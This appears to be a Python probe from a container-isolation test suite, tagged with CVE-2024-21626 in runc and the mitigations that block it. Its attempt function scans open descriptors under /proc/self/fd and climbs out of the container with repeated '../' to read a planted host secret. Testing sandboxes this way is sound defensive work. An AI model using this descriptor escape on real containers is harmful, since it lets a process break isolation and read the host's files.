"""Looks for a directory of the host among its open descriptors, and walks up from it."""

import os

CLASS = "descriptors"
INCIDENT = "CVE-2024-21626 (runc): a descriptor of /sys/fs/cgroup stayed open"
BLOCKED_BY = "close_range and a built root"
PLANT = "directory"


def attempt(facts):
    for number in os.listdir("/proc/self/fd"):
        if number.isdigit() and os.path.isdir(f"/proc/self/fd/{number}"):
            try:
                secret = os.open("../" * 40 + facts["secret_path"].lstrip("/"), os.O_RDONLY, dir_fd=int(number))
            except OSError:
                continue
            if facts["secret"].encode() in os.read(secret, 4096):
                return f"read the host's secret through descriptor {number}"
